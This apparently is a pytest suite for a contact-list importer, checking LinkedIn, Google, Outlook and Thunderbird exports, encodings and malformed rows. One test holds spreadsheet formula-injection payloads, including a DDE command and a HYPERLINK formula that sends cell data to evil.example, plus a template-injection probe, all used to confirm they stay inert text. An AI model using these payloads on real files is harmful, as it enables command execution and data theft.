"""Contact lists as other programmes write them."""

import io

import pytest

from tests.exchange.samples import sample
from vinculo.exchange.addressbook import reading
from vinculo.exchange.addressbook.contacts import ContactRow
from vinculo.exchange.reading.dates import Day
from vinculo.exchange.refusals import Refused, RowProblem


def contacts(data: bytes, columns: dict[int, str] | None = None) -> list[ContactRow | RowProblem]:
    return list(reading.read(io.BytesIO(data), columns).records)


def of(name: str) -> list[ContactRow | RowProblem]:
    with sample(name) as stream:
        return list(reading.read(stream).records)


@pytest.mark.parametrize(
    "name", ["es_contactos_cp1252.csv", "es_contactos_latin1.csv", "es_contactos_utf8_bom.csv", "csv_named.xlsx"]
)
def test_a_spanish_list_reads_the_same_in_every_encoding(name: str) -> None:
    angela, jose, rocio = of(f"made/{name}")

    assert isinstance(angela, ContactRow) and isinstance(jose, ContactRow) and isinstance(rocio, ContactRow)
    assert (angela.name, angela.company) == ("Ángela Muñoz Ibáñez", "Peñíscola Diseño S.L.")
    assert (angela.emails, angela.phones) == (("angela@ejemplo.example",), (("phone", "+34 600 00 00 01"),))
    assert angela.birthday == Day(month=4, day=3, year=1985)
    assert jose.note == 'Dijo: "mañana"\nsegunda línea'
    assert (rocio.name, rocio.emails) == ("Rocío García", ())


@pytest.mark.parametrize("name", ["pl_kontakty_cp1250.csv", "pl_kontakty_iso8859-2.csv", "pl_contacts_mac_cr.csv"])
def test_a_polish_list_reads_the_same_in_every_encoding(name: str) -> None:
    lucja, grzegorz = of(f"made/{name}")

    assert isinstance(lucja, ContactRow) and isinstance(grzegorz, ContactRow)
    assert (lucja.name, lucja.company) == ("Łucja Źdźbło", "Żółć Sp. z o.o.")
    assert lucja.note == "Dzwonić po 10:00; nie pisać"
    assert (grzegorz.company, grzegorz.birthday) == ("Ćma i Wspólnicy", Day(12, 31, 1979))


def test_utf16_with_tabs_keeps_its_words() -> None:
    first = of("made/es_contactos_utf16le_tab.csv")[0]

    assert isinstance(first, ContactRow)
    assert first.company == "Peñíscola Diseño S.L."


def test_linkedin_with_notes_before_the_headings() -> None:
    ariadna = of("made/linkedin_connections.csv")[0]

    assert isinstance(ariadna, ContactRow)
    assert (ariadna.line, ariadna.name, ariadna.title) == (6, "Ariadna Zubelzu", "Printer & Partner")
    assert (ariadna.company, ariadna.linkedin) == ("Molino Gráfico", "https://www.linkedin.com/in/ariadna-made-up")


def test_linkedin_in_german_and_without_notes() -> None:
    data = (
        "Vorname,Nachname,URL,E-Mail-Adresse,Unternehmen,Position,Verbunden am\n"
        "Jörg,Groß,https://www.linkedin.com/in/joerg,joerg@haus.example,Haus GmbH,Leiter,05 März 2024\n"
    ).encode()

    shape = reading.look(io.BytesIO(data))
    jorg = contacts(data)[0]

    assert shape.kind == "linkedin"
    assert isinstance(jorg, ContactRow)
    assert (jorg.name, jorg.company, jorg.linkedin) == ("Jörg Groß", "Haus GmbH", "https://www.linkedin.com/in/joerg")


def test_linkedin_in_a_language_nobody_listed_is_known_by_its_places() -> None:
    data = (
        b"Etunimi,Sukunimi,Osoite,Sposti,Yritys,Asema,Yhdistetty\n"
        b"Aino,Virta,https://www.linkedin.com/in/aino,,Koski Oy,Johtaja,1.2.2024\n"
    )

    aino = contacts(data)[0]

    assert isinstance(aino, ContactRow)
    assert (aino.name, aino.company, aino.title) == ("Aino Virta", "Koski Oy", "Johtaja")


def test_linkedin_with_headings_first_notes_after_and_headings_again() -> None:
    head = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\n"
    data = (
        head + '"Notes:"\n"Some notice, with a comma"\n' + head + "Ana,Prado,,ana@luna.example,Luna,Owner,\n"
    ).encode()

    found = contacts(data)

    assert [row.name for row in found if isinstance(row, ContactRow)] == ["Ana Prado"]
    assert len(found) == 1


def test_a_row_with_nobody_in_it_is_reported_with_its_line() -> None:
    data = b"First Name,Last Name,URL,Email Address,Company,Position,Connected On\n,,,,,,30 Apr 2026\n"

    assert contacts(data) == [RowProblem(2, "30 Apr 2026", "nobody")]


def test_google_of_today() -> None:
    data = (
        "First Name,Middle Name,Last Name,Organization Name,Organization Title,Birthday,Notes,Labels,"
        "E-mail 1 - Label,E-mail 1 - Value,Phone 1 - Label,Phone 1 - Value,Website 1 - Label,Website 1 - Value\n"
        "Ana,María,Prado,Café Luna,Owner,--03-05,Likes mornings,* myContacts ::: Clients,"
        "Work,ana@luna.example ::: hola@luna.example,Mobile,+34 600 000 000 ::: +34 600 000 009,Profile,luna.example\n"
    ).encode()

    shape, ana = reading.look(io.BytesIO(data)), contacts(data)[0]

    assert shape.kind == "google"
    assert isinstance(ana, ContactRow)
    assert ana.name == "Ana María Prado"
    assert ana.emails == ("ana@luna.example", "hola@luna.example")
    assert [number for _, number in ana.phones] == ["+34 600 000 000", "+34 600 000 009"]
    assert (ana.birthday, ana.groups, ana.webs) == (Day(3, 5), ("Clients",), ("https://luna.example",))


def test_an_outlook_row_that_asks_to_delete_is_reported_and_never_followed() -> None:
    problems = [row for row in of("contacts/outlook_action_column.csv") if isinstance(row, RowProblem)]

    assert [(problem.what, problem.why) for problem in problems] == [("Daniel Ireland", "marked_delete")]


def test_outlook_title_is_a_form_of_address_and_job_title_the_position() -> None:
    data = b"Title,First Name,Last Name,Company,Job Title,E-mail Address,Business Phone\nDr,Ana,Prado,Luna,Owner,,1\n"

    ana = contacts(data)[0]

    assert isinstance(ana, ContactRow)
    assert (reading.look(io.BytesIO(data)).kind, ana.title) == ("outlook", "Owner")


def test_thunderbird_puts_its_birthday_together_from_three_columns() -> None:
    data = (
        b"First Name,Last Name,Display Name,Primary Email,Screen Name,Birth Year,Birth Month,Birth Day\n"
        b"Ana,Prado,Ana P,ana@luna.example,,1970,11,15\n"
    )

    ana = contacts(data)[0]

    assert isinstance(ana, ContactRow)
    assert ana.birthday == Day(11, 15, 1970)


def test_opportunities_are_refused_with_a_sentence_that_says_what_they_are() -> None:
    with sample("contacts/salesforce_opportunities.csv") as stream, pytest.raises(Refused) as refused:
        reading.read(stream)

    assert refused.value.code == "opportunities"
    assert "STAGENAME" in refused.value.sentence


def test_columns_said_by_a_person_replace_the_proposal() -> None:
    data = b"a,b,c\nAna,ana@luna.example,Luna\n"

    with pytest.raises(Refused):
        contacts(data)
    ana = contacts(data, {0: "name", 1: "email", 2: "company"})[0]

    assert isinstance(ana, ContactRow)
    assert (ana.name, ana.emails, ana.company) == ("Ana", ("ana@luna.example",), "Luna")


def test_a_quotation_mark_that_never_closes_costs_its_row_only() -> None:
    found = contacts(b'name,email\nAna,ana@luna.example\n"Otto,otto@otero.example\nIga,iga@x.example\n')

    assert [type(row).__name__ for row in found] == ["ContactRow", "RowProblem"]
    assert found[1] == RowProblem(3, "Otto,otto@otero.example Iga,iga@x.example", "unclosed_quote")


def test_formulas_and_scripts_stay_the_text_they_are() -> None:
    first, second, third = of("made/formula_injection_contacts.csv")

    assert isinstance(first, ContactRow) and isinstance(second, ContactRow) and isinstance(third, ContactRow)
    assert (first.given, first.company) == ("=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    assert (second.linkedin, second.webs, second.remarks[0].why) == ("", (), "web_refused")
    assert third.title == "{{7*7}}"


def test_direction_marks_are_taken_out_and_joined_emoji_kept() -> None:
    first, second, long = of("made/rtl_emoji_contacts.csv")

    assert isinstance(first, ContactRow) and isinstance(second, ContactRow)
    assert "\u202e" not in first.note
    assert second.note == "\U0001f9d1\u200d\U0001f4bc\U0001f44d\U0001f3fd"
    assert isinstance(long, RowProblem) and long.why == "name_too_long"


def test_one_normal_form_for_marks_written_two_ways() -> None:
    one, other = of("made/names_nfc_nfd.csv")

    assert isinstance(one, ContactRow) and isinstance(other, ContactRow)
    assert one.name == other.name == "José Núñez"


def test_a_day_that_could_be_two_is_left_out_and_said() -> None:
    ana = contacts(b"Name,Email,Birthday\nAna,a@x.example,03/04/1985\n")[0]

    assert isinstance(ana, ContactRow)
    assert (ana.birthday, ana.remarks[0].why) == (None, "date_refused")


def test_a_hundred_thousand_rows_pass_in_little_memory() -> None:
    import tracemalloc

    data = b"Name,Email,Company\n" + b"".join(b"Ana %d,ana%d@x.example,Luna %d\n" % (n, n, n) for n in range(20_000))
    stream = io.BytesIO(data)
    tracemalloc.start()

    count = sum(1 for _ in reading.read(stream).records)

    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert count == 20_000
    assert peak < 8 * 1024 * 1024
